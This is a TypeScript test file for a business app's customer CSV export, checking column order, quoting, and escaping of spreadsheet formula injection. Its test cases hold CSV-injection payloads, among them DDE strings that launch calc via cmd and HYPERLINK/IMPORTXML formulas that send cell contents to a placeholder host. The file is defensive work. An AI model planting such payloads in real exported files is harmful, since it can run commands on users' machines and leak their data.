import { string as anyText, array, assert, constantFrom, property, tuple } from 'fast-check';
import papaparse from 'papaparse';
import { expect, test } from 'vitest';
import { csvLines } from '../../server/adapters/csv.ts';
import { csvHeaders } from '../../src/domain/business/reference.ts';
import { blankCustomer, type CustomerCard } from '../../src/domain/contact/contact.ts';
import { columnsOf, rowOf } from '../../src/domain/import/contact-file.ts';
import { noAddress } from '../../src/domain/values/address.ts';
import { asTyped, harmless } from '../../src/domain/values/csv.ts';

const headers = csvHeaders('customers')!.map(({ header }) => header);
const ada: CustomerCard = {
  ...blankCustomer,
  name: 'Ada & Sons',
  company: 'Ada and Sons Ltd',
  firstName: 'Ada',
  lastName: 'Stone',
  email: 'ada@example.com',
  phone: '+234 801 234 5678',
  whatsapp: '+2348012345679',
  website: 'www.example.com',
  taxId: 'TIN-1234',
  currency: 'NGN',
  termsDays: 14,
  billing: { ...noAddress, street: '1 Marina', zip: '101241', city: 'Lagos', country: 'Nigeria' },
};

test('a customer has a cell under every column the reference has for their file, in its order', () => {
  const opening = { amount: '120.5', onDay: '2026-01-31' };
  expect(
    Object.fromEntries(rowOf({ ...ada, opening }, headers).map((cell, index) => [headers[index], cell])),
  ).toEqual({
    Name: 'Ada & Sons',
    Company: 'Ada and Sons Ltd',
    'First name': 'Ada',
    'Last name': 'Stone',
    Email: 'ada@example.com',
    Phone: '+234 801 234 5678',
    WhatsApp: '+2348012345679',
    Website: 'www.example.com',
    'Tax ID': 'TIN-1234',
    Currency: 'NGN',
    'Payment terms': '14',
    Address: '1 Marina, Lagos 101241, Nigeria',
    Street: '1 Marina',
    City: 'Lagos',
    State: '',
    'Postal code': '101241',
    Country: 'Nigeria',
    'Opening balance': '120.5',
    'Opening day': '2026-01-31',
    'Opening currency': '',
    'Opening rate': '',
    Type: 'business',
    Cc: '',
    Notes: '',
    Attention: '',
    'Address phone': '',
    'Shipping attention': '',
    'Shipping street': '',
    'Shipping city': '',
    'Shipping state': '',
    'Shipping postal code': '',
    'Shipping country': '',
    'Shipping phone': '',
  });
  expect(rowOf({ ...blankCustomer, termsDays: 0 }, headers).join('|')).toBe(
    '||||||||||0|||||||||||business|||||||||||',
  );
});

test('a file has its columns in their own order, those that must be there though nobody asked', () => {
  expect(columnsOf('customer', ['Address', 'Phone', 'Phone'])).toEqual(['Name', 'Phone', 'Address']);
  expect(columnsOf('customer', [])).toEqual(['Name']);
  expect(columnsOf('customer', headers.toReversed())).toEqual(headers);
  expect(columnsOf('customer', ['Phone', 'toString'])).toMatchObject({
    kind: 'invalid',
    fields: [{ field: 'columns', message: 'A file of customers has no column “toString”.' }],
  });
});

test('lines end in CR and LF; quotes, commas, line breaks and blanks at an end are quoted', () => {
  expect(
    csvLines([
      ['Name', 'Address'],
      ['Ada "the" Stone', 'Quay 1,\r\nLagos'],
      [' Ben ', ''],
    ]),
  ).toBe('Name,Address\r\n"Ada ""the"" Stone","Quay 1,\r\nLagos"\r\n" Ben ",\r\n');
});

test.each([
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  ' =1+1',
  '\u00A0=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '\tplain',
  `=cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  '=HYPERLINK("http://canary.example?x="&A1,"Open")',
  '=IMPORTXML(CONCAT("http://canary.example/",A1),"//a")',
  '-2+3+cmd|’ /C calc’!A0',
  '+1-800-555-0134',
  '+234(801)2345678',
  '+',
  '-',
  '+1 +1',
])('a spreadsheet takes %j for text', (cell) => {
  expect(harmless(cell)).toBe(`'${cell}`);
});

test.each([
  '+234 801 234 5678',
  '+2348012345678',
  '-12.50',
  '+3',
  '1+1',
  'a=b',
  'ada@example.com',
  '’=1',
  "'quoted'",
  '',
])('%j is no formula and stands as it is', (cell) => {
  expect(harmless(cell)).toBe(cell);
});

test.each([
  ['Ada;=1+1', "Ada;'=1+1"],
  ['Ada\t=1+1', "Ada\t'=1+1"],
  ['Ada; =1+1;@x', "Ada;' =1+1;'@x"],
  ['Ada;"=1+1"', `Ada;'"=1+1"`],
  ['Ada\n=1+1', "Ada\n'=1+1"],
  ['\t=1+1', "'\t'=1+1"],
  ['\r=1+1', "'\r'=1+1"],
  ['\n=1+1', "'\n'=1+1"],
  ["Ada;'=1", "Ada;''=1"],
  ['+1;-cmd', "'+1;'-cmd"],
  ['Ada;+49 30 123; -5', 'Ada;+49 30 123; -5'],
  ['Ada, = 5; b=c', 'Ada, = 5; b=c'],
])('of %j no part is a formula, whatever sign a program splits it at', (cell, written) => {
  expect([harmless(cell), asTyped(written)]).toEqual([written, cell]);
});

const awkward = constantFrom(
  ...[
    "'",
    '"',
    ',',
    ';',
    '\r',
    '\n',
    '\t',
    '=',
    '+',
    '-',
    '@',
    '＝',
    ' ',
    '\uFEFF',
    '0',
    '7',
    '.',
    'é',
    '😀',
  ],
);
const cell = array(tuple(awkward, anyText({ maxLength: 2 })), { maxLength: 5 }).map((parts) =>
  parts.flat().join(''),
);

test('a parser reads back what was written, and every cell as it was typed', () => {
  const row = tuple(cell, cell, cell).map(([first, ...others]) => [`a${first}`, ...others]);
  assert(
    property(array(row, { minLength: 1, maxLength: 6 }), (rows) => {
      const { data, errors } = papaparse.parse<string[]>(csvLines(rows), { delimiter: ',', newline: '\r\n' });
      expect(errors).toEqual([]);
      expect(data.slice(0, -1).map((cells) => cells.map(asTyped))).toEqual(rows);
      expect(data.at(-1)).toEqual(['']);
    }),
    { numRuns: 500 },
  );
});

test('no cell that is written begins as a formula does, unless it is a number', () => {
  assert(
    property(cell, (typed) => {
      const written = harmless(typed);
      expect(/^[\s\0]*[=+\-@＝＋－＠]/.test(written) && !/^[+-]\d[\d ]*(\.\d+)?$/.test(written)).toBe(false);
    }),
    { numRuns: 1000 },
  );
});
